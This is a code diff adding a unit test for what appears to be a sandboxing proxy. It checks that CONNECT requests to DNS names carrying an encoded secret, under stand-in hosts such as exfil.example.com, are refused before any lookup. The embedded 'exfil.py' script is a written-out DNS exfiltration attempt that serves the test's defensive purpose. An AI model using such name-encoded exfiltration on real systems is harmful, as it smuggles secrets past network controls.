@@ -201,6 +201,23 @@ for ns in ("8.8.8.8", "127.0.0.53", "127.0.0.1"):
         self.assertNotIn("answer from", res.out, res)
         self.assertIn("getaddrinfo failed", res.out, res)
 
+    def test_dns_as_a_channel_through_the_proxy_resolver(self):
+        # A denied name is refused before anything is resolved: encoding data in names the
+        # proxy would look up does not reach any DNS server. The refusal names the host rule,
+        # and no resolution error shows up for the denied names (nothing was looked up).
+        secret = "c2VjcmV0" + os.urandom(6).hex()
+        argv = self.box.argv(inside_script(self.box, "exfil.py", r"""
+for name in ("%s.exfil.example.com:443", "%s.example.net:80"):
+    print(name, raw(b"CONNECT " + name.encode() + b" HTTP/1.1\r\n\r\n", read_all=True))
+""" % (secret, secret)), args=self.allow)
+        argv[argv.index("-q")] = "-v"
+        res = self.box.run(None, argv=argv, env=self.env)
+        self.assertRc(res, 0)
+        self.assertEqual(res.out.count("403 Forbidden"), 2, res)
+        self.assertEqual(res.out.count('refused by network.unlisted "deny"'), 2, res)
+        self.assertEqual(len(re.findall(r"net.connect .*verdict=deny", res.err)), 2, res)
+        self.assertNotIn("error=", res.err, res)
+
     def test_crafted_host_names_that_look_allowed(self):
         p = self.port
         cases = {
